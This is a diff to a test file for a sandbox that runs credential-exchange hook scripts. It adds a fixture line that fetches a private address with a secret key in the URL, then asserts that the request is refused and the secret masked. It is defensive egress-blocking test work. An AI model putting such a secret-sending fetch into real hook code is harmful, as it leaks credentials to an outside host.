@@ -12,6 +12,7 @@ from tests.support.in_process import Installation, started
 
 CODE = """exports.onExecuteCredentialsExchange = async (event, api) => {
     console.log('for', event.client.name, event.secrets.KEY);
+    await fetch(`http://10.0.0.7:8080/path?key=${event.secrets.KEY}`).catch(() => {});
     api.accessToken.setCustomClaim('https://x.example/key', event.secrets.KEY); };"""
 
 
@@ -57,6 +58,8 @@ def test_executions_are_listed_shown_and_replayed(running: Installation, data: P
 
     (result,) = json.loads(freehold(data, "executions", "show", id_))["results"]
     assert result["logs"] == [{"level": "log", "text": f"for {result['given'][0]['client']['name']} [secret]"}]
+    reason = "the host has an address that is not public"
+    assert result["destinations"] == [{"host": "10.0.0.7", "port": 8080, "how": "refused", "reason": reason}]
     assert result["answered"] == [["accessToken.setCustomClaim", ["https://x.example/key", "[secret]"]]]
 
     replayed = json.loads(freehold(data, "executions", "replay", id_, "--json"))
